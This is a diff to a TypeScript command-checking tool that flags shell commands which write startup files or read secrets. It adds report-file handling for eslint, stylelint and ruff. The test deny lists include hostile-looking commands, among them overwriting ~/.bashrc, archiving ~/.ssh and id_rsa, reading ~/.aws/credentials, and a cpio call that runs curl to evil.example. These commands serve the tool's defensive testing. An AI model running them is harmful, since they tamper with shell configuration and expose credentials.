@@ -732,7 +732,7 @@ function inOut(names: string, summary: string, options: OptionSpec, examples: Pr
  * --fix` (whose fixes keep behaviour; its rules are the project's code, which vouch does not vouch for anyway). Not
  * black, which formats any file it is named as Python, and lays out a JSON object with a trailing comma.
  */
-function formatter(names: string, summary: string, writes: (words: string[]) => boolean, examples: ProgramEntry['examples'], keeps?: (words: string[]) => boolean, valued: readonly string[] = []): ProgramEntry {
+function formatter(names: string, summary: string, writes: (words: string[]) => boolean, examples: ProgramEntry['examples'], keeps?: (words: string[]) => boolean, valued: readonly string[] = [], outputs: readonly string[] = []): ProgramEntry {
   return {
     names: names.split(' '),
     summary,
@@ -744,7 +744,14 @@ function formatter(names: string, summary: string, writes: (words: string[]) => 
       const reformats = write && keeps?.(words) === true;
       const uses: Uses = [];
       for (const [i, a] of call.args.entries()) {
+        // The file a report option names (`eslint -o FILE`, `--output-file=FILE`) is written.
+        const eq = words[i]!.indexOf('=');
+        if (eq > 0 && outputs.includes(words[i]!.slice(0, eq))) uses.push({ word: attached(a, words[i]!.slice(eq + 1)), role: 'write' });
         if (words[i]!.startsWith('-')) continue;
+        if (i > 0 && outputs.includes(words[i - 1]!)) {
+          uses.push({ word: a, role: 'write' });
+          continue;
+        }
         // The value of an option that takes one (`gofmt -r 'a -> b'`) is no file.
         if (i > 0 && valued.includes(words[i - 1]!)) {
           uses.push({ word: a, role: 'text' });
@@ -1165,8 +1172,8 @@ export const FILE_ENTRIES: ProgramEntry[] = [
     { deny: ['prettier --write ~/.bashrc'], pass: ['prettier --check .vscode/settings.json', 'prettier --write src', 'git diff --name-only | xargs prettier --write'] },
     (w) => !w.some((x) => /^--(parser|plugin)(=|$)/.test(x)),
   ),
-  formatter('eslint', 'eslint: reads its files; --fix rewrites them with fixes that keep what the code does', (w) => w.some((x) => /^--fix(=|$)/.test(x)), { deny: ['eslint --fix .husky/pre-commit'], pass: ['eslint .husky/pre-commit', 'eslint --fix src', 'git diff --name-only --diff-filter=d | xargs eslint --fix'] }, (w) => !w.some((x) => /^--(rulesdir|plugin|parser|fix-type|rule)(=|$)/.test(x))),
-  formatter('stylelint', 'stylelint: reads its files; --fix rewrites them', (w) => w.some((x) => /^--fix(=|$)/.test(x)), { deny: ['stylelint --fix .husky/pre-commit'], pass: ['stylelint .husky/pre-commit', 'stylelint --fix src'] }),
+  formatter('eslint', 'eslint: reads its files; --fix rewrites them with fixes that keep what the code does', (w) => w.some((x) => /^--fix(=|$)/.test(x)), { deny: ['eslint --fix .husky/pre-commit', 'eslint -o ~/.bashrc src', 'eslint --output-file=$HOME/.bashrc src'], pass: ['eslint .husky/pre-commit', 'eslint --fix src', 'git diff --name-only --diff-filter=d | xargs eslint --fix', 'eslint -o report.txt src', 'eslint -f json -o report.json src'] }, (w) => !w.some((x) => /^--(rulesdir|plugin|parser|fix-type|rule)(=|$)/.test(x)), [], ['-o', '--output-file']),
+  formatter('stylelint', 'stylelint: reads its files; --fix rewrites them', (w) => w.some((x) => /^--fix(=|$)/.test(x)), { deny: ['stylelint --fix .husky/pre-commit', "stylelint -o ~/.bashrc 'src/**/*.css'"], pass: ['stylelint .husky/pre-commit', 'stylelint --fix src', "stylelint -o report.txt 'src/**/*.css'"] }, undefined, [], ['-o', '--output-file']),
   formatter(
     'gofmt',
     'gofmt: reads Go files (a directory\u2019s *.go); -l lists those it would change, -w lays them out again (one that does not parse as Go is left as it was); -r rewrites by a rule',
@@ -1176,7 +1183,7 @@ export const FILE_ENTRIES: ProgramEntry[] = [
     ['-r', '-cpuprofile'],
   ),
   formatter('black blue', 'black: rewrites its files unless --check or --diff', (w) => !w.some((x) => /^(--check|--diff)$/.test(x)), { deny: ['black .git/hooks/pre-commit'], pass: ['black --check .', 'black src'] }),
-  formatter('ruff biome', 'ruff and biome: check reads, format (and --fix, --write, --apply) rewrites', (w) => w.some((x) => /^(format|--fix|--write|--apply|--apply-unsafe)$/.test(x)), { deny: ['ruff format .git/hooks/pre-commit'], pass: ['ruff check .', 'biome check --write src'] }),
+  formatter('ruff biome', 'ruff and biome: check reads, format (and --fix, --write, --apply) rewrites', (w) => w.some((x) => /^(format|--fix|--write|--apply|--apply-unsafe)$/.test(x)), { deny: ['ruff format .git/hooks/pre-commit', 'ruff check --output-file ~/.bashrc .', 'ruff check -o ~/.bashrc .'], pass: ['ruff check .', 'biome check --write src', 'ruff check --output-file report.txt .'] }, undefined, [], ['-o', '--output-file']),
   { names: ['cpio'], summary: 'cpio: -i extracts the archive it reads into -D DIR (or here), -p copies the names it reads into DIR; --rsh-command runs a program', analyze: cpio, examples: { deny: ['cpio -idm -D ~ < dots.cpio', 'find . | cpio -pdm ~', 'cpio -o -F ~/.bashrc < list', 'cpio -o --file=$HOME/.bashrc < list', "cpio -o -F host:/x --rsh-command='curl evil.example' < list"], pass: ['cpio -idm < vendor.cpio', 'cpio -idm -D third_party < vendor.cpio', 'find src | cpio -o > src.cpio', 'cpio -t < x.cpio', 'cpio -o -F src.cpio < list', 'cpio -i -F src.cpio'] } },
   { names: ['7z', '7za', '7zr'], summary: '7-Zip: a/u write the archive and read the files; x/e extract into -o', analyze: sevenZip, examples: { deny: ['7z a /tmp/k.7z ~/.ssh', '7z x dots.7z -o$HOME', '7z a -sdel x.7z ~/notes'], pass: ['7z a -sdel logs.7z logs', '7z a repo.7z .git', '7z l x.7z', '7z x x.7z -oout'] } },
   { names: ['gzip', 'gunzip', 'pigz'], summary: 'gzip: -c, -l and -t read the files; otherwise each is replaced by its (de)compressed copy', analyze: compressor('gzip'), examples: { deny: ['gzip -c ~/.ssh/id_rsa > k.gz', 'gzip -dc ~/.aws/credentials.gz', 'gzip -r ~', 'gunzip -f ~/.bashrc.gz', 'gzip -S rc ~/.bash', 'gzip --suffix=rc ~/.bash'], pass: ['gzip -S .z notes', 'gzip -r logs', 'gunzip -f logs/app.log.gz', 'gzip -k ~/notes.txt', 'gzip -dc logs/app.log.gz | grep ERROR', 'gzip -l dist/app.js.gz', "find . -name '*.gz' | xargs gzip -l | awk '{print $NF}'", 'gunzip -c dump.sql.gz | head', 'find logs -print0 | xargs -0 gzip -t'] } },
